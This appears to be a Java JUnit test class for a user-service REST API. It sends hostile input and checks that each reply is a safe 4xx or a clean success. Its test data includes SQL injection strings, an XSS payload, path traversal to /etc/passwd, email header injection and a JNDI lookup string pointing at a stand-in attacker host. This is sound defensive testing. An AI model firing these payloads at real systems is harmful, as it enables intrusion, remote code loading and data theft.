package io.userservice.rest;

import io.userservice.core.domain.ClientAddress;
import io.userservice.core.port.in.UserExistsUseCase;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.userservice.core.domain.MailKind;
import io.userservice.core.domain.Email;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Input an attacker sends: streamed oversized bodies, control characters, lookalike letters and SQL
 * in every text field, extreme passwords, fields a client may not set, and reaching for another
 * user's data. Every answer is a success or a 4xx with the error shape, never a 5xx.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    private static final String PASSWORD = "correct horse";

    private final RestFixture api = new RestFixture();

    @AfterAll
    void stop() {
        api.close();
    }

    private static void assertClientErrorShape(RestFixture.Reply reply) {
        assertThat(reply.status()).as(reply.body()).isBetween(400, 499);
        assertThat(reply.json().path("status").asText()).isEqualTo("error");
        assertThat(reply.errorCode()).isNotBlank();
        assertThat(reply.body()).doesNotContain("Exception").doesNotContain("at io.");
    }

    private String accessTokenOf(String email) {
        return api.signedIn(email, PASSWORD).json().path("accessToken").asText();
    }

    /**
     * Streams {@code size} bytes of body over a raw socket, declared up front or chunked, and
     * returns the status line; the server may answer and close before the body is through.
     */
    private String streamBody(String path, long size, boolean chunked) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", api.port())) {
            socket.setSoTimeout(20_000);
            OutputStream out = socket.getOutputStream();
            String head = "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                    + (chunked ? "Transfer-Encoding: chunked\r\n" : "Content-Length: " + size + "\r\n")
                    + "Connection: close\r\n\r\n";
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            byte[] block = ("{\"email\":\"" + "x".repeat(64 * 1024)).getBytes(StandardCharsets.US_ASCII);
            try {
                for (long sent = 0; sent < size; sent += block.length) {
                    if (chunked) {
                        out.write((Integer.toHexString(block.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                    }
                    out.write(block);
                    if (chunked) {
                        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                    }
                }
                if (chunked) {
                    out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                }
                out.flush();
            } catch (IOException closedEarly) {
                // the server answered and closed the connection before taking the whole body
            }
            InputStream in = socket.getInputStream();
            String response = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            return response;
        }
    }

    @Test
    void streamedBodiesOfFiveMegabytesAndMoreAre413() throws IOException {
        for (long size : new long[] {5L * 1024 * 1024, 12L * 1024 * 1024}) {
            String declared = streamBody("/users", size, false);
            String chunked = streamBody("/auth/login", size, true);

            assertThat(declared).startsWith("HTTP/1.1 413").contains("payload_too_large");
            assertThat(chunked).startsWith("HTTP/1.1 413").contains("payload_too_large");
        }
        assertThat(api.get("/health").status()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"nul\u0000@example.com", "crlf\r\n@example.com", "a@example.com\r\nBcc: x@evil.com",
            "' OR '1'='1@example.com", "x@example.com'; DROP TABLE users; --", "\"quoted\"@example.com",
            "\u0430dmin@example.com", "admin@ex\u0430mple.com", "admin@example.com\u200b", "ad\u00admin@example.com",
            "\uff41dmin@example.com", "admin@example.com\u0000", "%00@example.com", "<script>@example.com",
            "admin@[127.0.0.1]", "a@b", "@example.com", "admin@", "\ud83d\ude00@example.com"})
    void hostileEmailsAreRefusedOrKeptApartFromTheRealUser(String email) {
        api.signedIn("admin@example.com", PASSWORD);

        RestFixture.Reply register = api.post("/users", Map.of("email", email, "password", "long enough 1"));
        RestFixture.Reply login = api.post("/auth/login", Map.of("email", email, "password", PASSWORD));

        if (register.status() == 201) {
            assertThat(register.json().path("user").path("email").asText()).isNotEqualTo("admin@example.com");
        } else {
            assertClientErrorShape(register);
        }
        assertClientErrorShape(login);
        assertThat(api.post("/users/password/reset", Map.of("email", email)).status()).isBetween(200, 499);
        assertThat(api.get("/en/user/exists?email=" + java.net.URLEncoder.encode(email, StandardCharsets.UTF_8))
                .status()).isBetween(200, 499);
    }

    @Test
    void anApostropheInAnEmailWorksAndComesBackIntact() {
        RestFixture.Reply login = api.signedIn("o'brien@example.com", PASSWORD);

        assertThat(login.status()).isEqualTo(200);
        assertThat(login.json().path("user").path("email").asText()).isEqualTo("o'brien@example.com");
        String token = login.json().path("accessToken").asText();
        assertThat(api.get("/user", token).json().path("user").path("email").asText()).isEqualTo("o'brien@example.com");
        assertThat(api.core.userExists().exists(new UserExistsUseCase.Command("O'Brien@Example.com", ClientAddress.unknown()))).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"O'Brien", "Robert'); DROP TABLE users;--", "\" OR \"\"=\"", "Zoë 名前 😀",
            "\u202eevil", "%s%s%n", "${jndi:ldap://evil.example.com/a}", "<img src=x onerror=alert(1)>",
            "\\' OR 1=1 --"})
    void namesWithMetacharactersAreStoredAndReturnedIntact(String name) {
        String token = accessTokenOf("names" + Math.abs(name.hashCode()) + "@example.com");

        RestFixture.Reply put = api.put("/user/name", Map.of("firstname", name, "lastname", name), token);

        assertThat(put.status()).as(put.body()).isEqualTo(200);
        JsonNode user = api.get("/user", token).json().path("user");
        assertThat(user.path("firstname").asText()).isEqualTo(name);
        assertThat(user.path("lastname").asText()).isEqualTo(name);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\tb", "nul\u0000", "line\r\nbreak", "line\nbreak", "\u0007bell", "\u0000"})
    void namesWithControlCharactersAreAClientError(String name) {
        String token = accessTokenOf("control" + Math.abs(name.hashCode()) + "@example.com");

        RestFixture.Reply put = api.put("/user/name", Map.of("firstname", name), token);

        if (put.status() == 200) {
            assertThat(api.get("/user", token).json().path("user").path("firstname").asText()).isEqualTo(name);
        } else {
            assertClientErrorShape(put);
        }
    }

    @Test
    void attributeKeysAndValuesWithMetacharactersRoundTripOrAreRefused() {
        String token = accessTokenOf("attributes-hostile@example.com");
        List<String> texts = List.of("o'brien", "'; DROP TABLE user_attributes; --", "a\u0000b", "cr\r\nlf",
                "\u0430\u0440\u0440le", "😀", "%2e%2e%2f", "../../etc/passwd", "key with spaces", "\u200b");
        Map<String, String> stored = new LinkedHashMap<>();
        for (String text : texts) {
            RestFixture.Reply reply = api.post("/user/attributes",
                    Map.of("attributeKey", text, "attributeText", text), token);
            if (reply.status() == 200) {
                stored.put(text, text);
            } else {
                assertClientErrorShape(reply);
            }
        }

        assertThat(stored).containsKeys("o'brien", "'; DROP TABLE user_attributes; --", "😀", "../../etc/passwd");
        JsonNode listed = api.get("/user/attributes", token).json();
        stored.forEach((key, value) -> assertThat(listed.path(key).asText()).as(key).isEqualTo(value));
        assertThat(listed.size()).isEqualTo(stored.size());
    }

    @Test
    void aHundredThousandCharacterPasswordIsAFastClientErrorForKnownAndUnknownUsers() {
        api.signedIn("long-password@example.com", PASSWORD);
        String huge = "p".repeat(100_000);

        // the body is larger than the limit, so the answer comes before the body is read and the
        // server closes the connection; each request gets a connection of its own
        RestFixture.Reply known = api.postOnOwnConnection("/auth/login",
                Map.of("email", "long-password@example.com", "password", huge));
        RestFixture.Reply unknown = api.postOnOwnConnection("/auth/login",
                Map.of("email", "nobody-long@example.com", "password", huge));
        RestFixture.Reply register = api.postOnOwnConnection("/users",
                Map.of("email", "huge-new@example.com", "password", huge));

        assertClientErrorShape(known);
        assertThat(known.status()).isEqualTo(unknown.status());
        assertThat(known.comparableBody()).isEqualTo(unknown.comparableBody());
        assertClientErrorShape(register);
    }

    @Test
    void seventyThreeBytePasswordsAreFullySupported() {
        String ascii73 = "a".repeat(72) + "b";
        String multiByte73 = "é".repeat(36) + "x";
        assertThat(multiByte73.getBytes(StandardCharsets.UTF_8)).hasSize(73);
        for (String password : List.of(ascii73, multiByte73)) {
            String email = "p73-" + Math.abs(password.hashCode()) + "@example.com";
            api.post("/users", Map.of("email", email, "password", password));
            api.lastCode(MailKind.EMAIL_CONFIRMATION, email)
                    .ifPresent(code -> api.post("/users/confirm", Map.of("code", code)));

            assertThat(api.post("/auth/login", Map.of("email", email, "password", password)).status()).isEqualTo(200);
            String truncated = new String(password.getBytes(StandardCharsets.UTF_8), 0, 72, StandardCharsets.UTF_8);
            String otherLastByte = password.substring(0, password.length() - 1) + "z";
            RestFixture.Reply wrongKnown = api.post("/auth/login", Map.of("email", email, "password", otherLastByte));
            RestFixture.Reply wrongUnknown = api.post("/auth/login",
                    Map.of("email", "nobody-" + email, "password", otherLastByte));
            assertThat(api.post("/auth/login", Map.of("email", email, "password", truncated)).status()).isEqualTo(401);
            assertThat(wrongKnown.status()).isEqualTo(401);
            assertThat(wrongKnown.comparableBody()).isEqualTo(wrongUnknown.comparableBody());
        }
    }

    @Test
    void fieldsAClientMayNotSetAreIgnoredEverywhere() throws Exception {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("email", "mass@example.com");
        body.put("password", "long enough");
        body.put("roles", List.of("admin", "user-edit"));
        body.put("confirmed", true);
        body.put("permissionLevel", 99);
        body.put("id", 1);
        body.put("deactivated", false);
        body.put("validAfter", 0);
        body.put("passwordHash", "$2b$04$knownhashknownhashknownhashknownhashknownhashknownhas");

        RestFixture.Reply reply = api.post("/users", body);

        assertThat(reply.status()).isEqualTo(201);
        var stored = api.core.getUser().get(reply.json().path("user").path("id").asLong());
        assertThat(stored.roles()).isEmpty();
        assertThat(stored.confirmed()).isFalse();
        assertThat(stored.permissionLevel()).isZero();
        assertThat(stored.id()).isNotEqualTo(1);
        api.post("/users/confirm", Map.of("code", api.lastCode(MailKind.EMAIL_CONFIRMATION, "mass@example.com").orElseThrow()));
        assertThat(api.post("/auth/login", Map.of("email", "mass@example.com", "password", "knownhash")).status())
                .isEqualTo(401);
        String token = api.post("/auth/login", Map.of("email", "mass@example.com", "password", "long enough"))
                .json().path("accessToken").asText();
        JsonNode claims = RestFixture.JSON.readTree(Base64.getUrlDecoder().decode(token.split("\\.")[1]));
        assertThat(claims.path("roles")).isEmpty();
        assertThat(claims.path("permissionLevel").asInt()).isZero();

        RestFixture.Reply rename = api.put("/user/name", Map.of("firstname", "M", "email", "admin@example.com",
                "roles", List.of("admin"), "id", 1), token);
        assertThat(rename.json().path("user").path("email").asText()).isEqualTo("mass@example.com");
        assertThat(api.core.getUser().get(stored.id()).roles()).isEmpty();
    }

    @Test
    void anotherUsersAttributesCannotBeReached() {
        String alice = accessTokenOf("alice-attrs@example.com");
        String mallory = accessTokenOf("mallory-attrs@example.com");
        long aliceId = api.core.userExists().exists(new UserExistsUseCase.Command("alice-attrs@example.com", ClientAddress.unknown()))
                ? api.core.lookUpUser().byEmail("alice-attrs@example.com").orElseThrow().id() : -1;
        api.post("/user/attributes", Map.of("attributeKey", "secret", "attributeText", "alice only"), alice);

        for (String path : new String[] {"/user/attributes?userId=" + aliceId, "/user/attributes?id=" + aliceId,
                "/user/profile?userId=" + aliceId, "/user/attributes/secret", "/users/" + aliceId + "/attributes",
                "/user/attributes/..%2F" + aliceId + "%2Fsecret", "/user/" + aliceId + "/attributes"}) {
            RestFixture.Reply reply = api.get(path, mallory);
            assertThat(reply.body()).as(path).doesNotContain("alice only");
            assertThat(reply.status()).as(path).isLessThan(500);
        }
        RestFixture.Reply delete = api.delete("/user/attributes/secret", mallory);
        assertThat(delete.status()).isEqualTo(404);
        RestFixture.Reply spoof = api.send("POST", "/user/attributes", "application/json",
                RestFixture.json(Map.of("attributeKey", "secret", "attributeText", "overwritten", "userId", aliceId)),
                Map.of("Authorization", "Bearer " + mallory, "X-User-Id", Long.toString(aliceId)));
        assertThat(spoof.status()).isEqualTo(200);
        assertThat(api.get("/user/attributes", alice).json().path("secret").asText()).isEqualTo("alice only");
    }
}
